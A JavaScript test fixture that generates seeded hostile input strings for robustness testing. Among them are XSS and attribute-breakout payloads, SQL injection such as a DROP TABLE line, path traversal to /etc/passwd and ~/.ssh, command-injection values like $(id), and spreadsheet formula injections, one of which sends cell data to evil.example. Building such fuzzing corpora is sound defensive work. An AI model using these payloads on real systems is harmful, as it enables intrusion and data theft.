// Texts that somebody could type, paste or send to do harm, or that merely break programs: three
// hundred of them from one seed. Invisible characters are written as escapes, so that this file
// shows what it holds. Whatever would run sets `window.__x`; whatever would become an element or
// an attribute is called `x-canary`.

const RUN = 'window.__x=1';

/** A sequence of numbers that depends on the seed alone. */
function dice(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

/** What each category begins with; more are made of them by mixing. */
const BASES = {
  html: [
    `<script>${RUN}</script>`, `<x-canary>`, `</title><script>${RUN}</script>`,
    `</textarea><x-canary></x-canary>`, `<img src=x onerror=${RUN}>`, `<svg/onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`, `<iframe srcdoc="<script>${RUN}</script>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<details open ontoggle=${RUN}>`, `<body onload=${RUN}>`, `<base href=//evil.example>`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example>`,
    `<form action=//evil.example><button>Envoyer</button></form>`, `<!--><x-canary>`, `]]><x-canary>`,
    `<style>*{display:none}</style>`, `<noscript><p title="</noscript><x-canary>">`,
    `<sCrIpT>${RUN}</ScRiPt>`, `<scr<script>ipt>${RUN}</script>`, `&lt;x-canary&gt;`, `&#60;x-canary&#62;`,
    `<input autofocus onfocus=${RUN}>`, `<template><x-canary></template>`, `<plaintext>`,
  ],
  attribute: [
    `" x-canary="1`, `' x-canary='1`, `"><x-canary>`, `'><x-canary>`, `" autofocus onfocus="${RUN}`,
    `" style="position:fixed;inset:0;background:red" a="`, `\` x-canary=\``, `"/x-canary/"`, `" onmouseover=${RUN} "`,
    `&quot; x-canary=1`, `"\u000cx-canary="`,
  ],
  address: [
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
    `//evil.example/`, `/\\evil.example`, `https://evil.example@127.0.0.1/`, `/%2f%2fevil.example`,
    `?q=a&etat=EC#f`, `http://[::1]:0/`, `%00`, `%0d%0aSet-Cookie:%20a=b`, `/..%2f..%2fetc%2fpasswd`, `%`, `%zz`,
    `jawla://invitation/AAAA`, `#:~:text=x`,
  ],
  template: [
    '{{ 7*7 }}', '{% include "base.html" %}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{{x}}}', '{ $name }',
    '{$days}', '{$x ->', '{{constructor.constructor("window.__x=1")()}}', '@{x}', '[[x]]', '{ -brand }',
  ],
  formula: [
    '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example";"ici")',
    '\t=1+1', '\r=1+1', ' =1+1', '\u00a0=1+1', '=1+1;"=2+2"', '"=1+1', '\'=1+1', '-2+3+cmd|\' /C calc\'!D2',
    '@import', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")', '+212600000000', '\uff1d1+1',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', ';=1+1', '\n=1+1', '-', '=', '_x003D_1+1',
  ],
  bidi: [
    '\u202egnp.exe', '\u202dabc\u202c', '\u2066abc', '\u2067\u2068\u2069', '\u200fabc\u200e', '\u061cabc',
    'مشروع\u202eabc', '\u202e\u202e\u202e\u202eabc', '\u2069\u2069abc', 'abc\u2067',
  ],
  invisible: [
    'a\u200bb', '\u200b\u200b\u200b', '\u2060x\u2060', '\ufeffx', 'a\u00adb', '\u034f', '\u3164', '\u2800', 'x\u2028y',
    'x\u2029y', '\u180e', '\ufff9x\ufffa', '\u{e0041}\u{e0042}', '\u115f\u1160',
  ],
  control: [
    'a\u0000b', '\u0000', 'a\u0001\u0002', 'a\u0007', 'a\u0008\u0008', '\u001b[31mrouge\u001b[0m', 'a\u007f',
    'a\u0085b', 'a\u009bb', 'a\r\nb: c', 'a\nb', 'a\tb', '\u000b\u000c', 'a\u001ab', '\u001e\u001f',
  ],
  noncharacter: ['a\uffffb', 'a\ufffeb', '\ufdd0', '\u{1ffff}', '\u{10ffff}', '\ufffd', '\\ud800', '&#xd800;', '_x0000_', '_xFFFF_'],
  bytes: ['%ED%A0%80', '%ED%BF%BF', '%FF%FE', '%C0%AF', '%C3', '%E2%82', '%F5%80%80%80', 'a%80b', '%C0%80', '%F0%9F%98'],
  combining: [
    `a${'\u0301'.repeat(250)}`, `${'\u0489'.repeat(120)}x`, `ب${'\u0650\u064e\u0651'.repeat(60)}`, `${'e\u0300\u0301\u0302\u0323'.repeat(40)}`,
    `\u0301\u0301`, `ก${'็'.repeat(200)}`, `${'Z\u0351\u036b\u0343'.repeat(60)}`,
  ],
  wide: [
    'x'.repeat(299), 'M'.repeat(150), 'ـ'.repeat(200), 'غ'.repeat(200), '\ufdfa'.repeat(60), '𒐫'.repeat(60), '﷽'.repeat(40),
    'a/'.repeat(140), '\u00a0'.repeat(100) + 'x', '_'.repeat(200), '🏗️'.repeat(60), 'Donaudampfschiff'.repeat(18), '1'.repeat(120),
  ],
  mixed: [
    'مشروع <b>ABC</b> 123-456', 'abc مشروع 12% (نعم)', '١٢٣ - 456', 'قنطرة KHO-2019-P1-001 بلكفاف', '(ب) a (ج) b', 'א ب a 1 !', 'ABC ١٢/٣ דהו',
  ],
  sql: [
    "' OR '1'='1", "'; DROP TABLE view_project; --", '" OR ""="', "x' UNION SELECT password FROM office_user --", "%' AND 1=1 --",
    "\\'; --", '%_%', '* NEAR *', '"a" AND NOT', 'MATCH(', '0; VACUUM',
  ],
  path: ['../../../etc/passwd', '..\\..\\windows', '/dev/null', 'CON', 'file:///etc/passwd', '~/.ssh', 'a/../b', '.', '..', '|id', '$(id)', '`id`', '; id'],
  format: ['%s%s%s%n', '%d %x %p', '{0}{1}', '{}', '\\u0000', '\\x00', '%1$s', '$1', '\\', '\\\\', 'NaN', 'null', 'undefined', '1e309', '-0', '0x10', '９９', '٣٫٥'],
  emoji: ['👩‍🚒', '👨‍👩‍👧‍👦', '🇲🇦', '🏳️‍🌈', '👍🏽', '\u200d\u200d', '🇲', '#️⃣', '👩\u200d', '🧑🏿‍🤝‍🧑🏻', '\ufe0f'],
};

/** Kinds that are mixed to fill up: what two wrongs make together. */
const MIXED = ['html', 'attribute', 'formula', 'bidi', 'invisible', 'emoji', 'template', 'sql', 'mixed'];

/** A text as a form carries it. What is not text (`bytes`) is encoded already. */
export const encoded = (one) => one.bytes ?? encodeURIComponent(one.text);

/**
 * The texts, always the same for a seed: `{ category, text }`, and `{ category, bytes, text }`
 * where the bytes are not UTF-8 (`text` is then what a tolerant reader makes of them).
 */
export function hostileTexts(seed = 20261124, count = 300) {
  const roll = dice(seed);
  const all = [];
  for (const [category, bases] of Object.entries(BASES)) {
    for (const base of bases) {
      if (category === 'bytes') {
        const raw = base.replace(/%([0-9A-F]{2})|[^%]/g, (one, hex) => hex ?? one.charCodeAt(0).toString(16));
        all.push({ category, bytes: base, text: new TextDecoder().decode(Buffer.from(raw, 'hex')) });
      } else {
        all.push({ category, text: base });
      }
    }
  }
  while (all.length < count) {
    const pick = () => {
      const category = MIXED[roll(MIXED.length)];
      return BASES[category][roll(BASES[category].length)];
    };
    all.push({ category: 'together', text: `${pick()}${' \u200b'[roll(2)]}${pick()}` });
  }
  return all.slice(0, count);
}

/** A few texts of a megabyte, which no field takes. */
export const hugeTexts = () => [
  'x'.repeat(1_048_576), 'ب'.repeat(524_288), '<x-canary>'.repeat(104_858), '\u0301'.repeat(524_288), '\n'.repeat(1_048_576),
];
